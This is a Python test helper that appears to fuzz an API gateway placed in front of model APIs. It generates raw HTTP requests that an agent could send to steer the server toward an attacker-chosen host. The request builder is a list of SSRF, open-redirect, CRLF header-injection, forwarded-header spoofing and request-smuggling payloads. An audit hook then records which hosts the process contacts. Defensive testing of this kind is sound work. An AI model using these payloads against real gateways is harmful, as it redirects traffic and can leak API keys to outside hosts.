"""Requests that an agent could write on a socket to lead a server elsewhere, and the places that this process then contacts."""

import asyncio
import random
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

_watched: set[Any] | None = None


def _watch(event: str, arguments: tuple[Any, ...]) -> None:
    if _watched is not None and event in ("socket.connect", "socket.getaddrinfo"):
        _watched.add(arguments[1][:2] if event == "socket.connect" else arguments[:2])


sys.addaudithook(_watch)  # sees every connection of this process, and every name that it looks up


@contextmanager
def contacted() -> Iterator[set[Any]]:
    """The hosts and ports that this process looks up or connects to meanwhile."""
    global _watched
    _watched = set()
    try:
        yield _watched
    finally:
        _watched = None


async def send(host: str, port: int, request: bytes) -> bytes:
    reader, writer = await asyncio.open_connection(host, port)
    writer.write(request)
    async with asyncio.timeout(60):
        answer = await reader.read()
    writer.close()
    return answer


def request(random_: random.Random, host: str, port: int) -> bytes:
    """A request as an agent could write it on a socket, so that it leads to `host`:`port` somewhere."""
    pick, evil = random_.choice, f"{host}:{port}"
    end = pick(["/v1/messages", "/v1/models", "/v1/chat/completions", "/v1beta/models/x:generateContent", "/v1/models/x", "/"])
    before = pick(
        [""] * 12
        + [
            f"/@{evil}",
            f"//{evil}",
            f"/api.anthropic.com@{evil}",
            f"/\\{evil}",
            f"/%2f%2f{evil}",
            f"http://{evil}",
            f"/:x@{evil}",
        ]
        + [
            f"{evil}",
            f"@{evil}",
            f".{host}",
            f"/..//{evil}",
            f"/%40{evil}",
            f"/;@{evil}/..",
            f"/{evil}/%2e%2e",
            "/\t",
            f"/#@{evil}",
        ]
        + [f"https:/{evil}", f"/v1/../@{evil}", f"/?u=http://{evil}&", f"/%0d%0aHost:%20{evil}", f"/v1/models/..;/@{evil}", "/é"]
    )
    query = pick(["", f"?beta=@{evil}", f"?alt=sse&@{evil}", "?key=x", f"?beta=true%0d%0aHost:%20{evil}", f"?#@{evil}"])
    headers = "".join(
        f"{name}: {value}\r\n"
        for name, value in random_.sample(
            [
                ("X-Forwarded-Host", evil),
                ("X-Original-URL", f"http://{evil}/"),
                ("Forwarded", f"host={evil}"),
                ("X-HTTP-Method-Override", "CONNECT"),
                ("Transfer-Encoding", pick(["chunked", "xchunked", "identity, chunked"])),
                ("Proxy-Authorization", "Basic eDp5"),
            ],
            random_.randrange(5),
        )
    )
    body = pick([b"{}", b'{"model":"claude-sonnet-4-5","max_tokens":5,"messages":[{"role":"user","content":"Hi"}]}'])
    smuggled = pick([b"", f"GET http://{evil}/v1/models HTTP/1.1\r\nHost: {evil}\r\n\r\n".encode()])
    method = pick(["POST", "POST", "POST", "GET", "HEAD", "CONNECT", "PUT", "OPTIONS"])
    head = f"{method} {before}{end}{query} HTTP/1.1\r\nHost: {pick(['gateway', evil])}\r\n{headers}Connection: close{pick(['', ', x-api-key'])}\r\nx-api-key: TOKEN\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body + smuggled
